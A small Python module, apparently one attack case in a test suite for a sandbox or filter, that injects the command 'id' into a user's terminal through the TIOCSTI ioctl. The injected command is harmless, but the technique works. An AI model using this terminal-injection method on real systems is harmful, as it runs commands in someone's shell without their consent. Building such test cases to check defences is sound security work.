"""Type into the user's terminal."""

from __future__ import annotations

import fcntl
import os
from typing import Any

EVIDENCE = "typed"
STOPPED_BY = "filter"
MEANS = "it types commands into your shell"
NEEDS = ("terminal",)


def attack(at: Any) -> None:
    terminal = os.open(at.terminal, os.O_RDWR)
    for character in b"id\n":
        fcntl.ioctl(terminal, 0x5412, bytes([character]))
    at.hold()
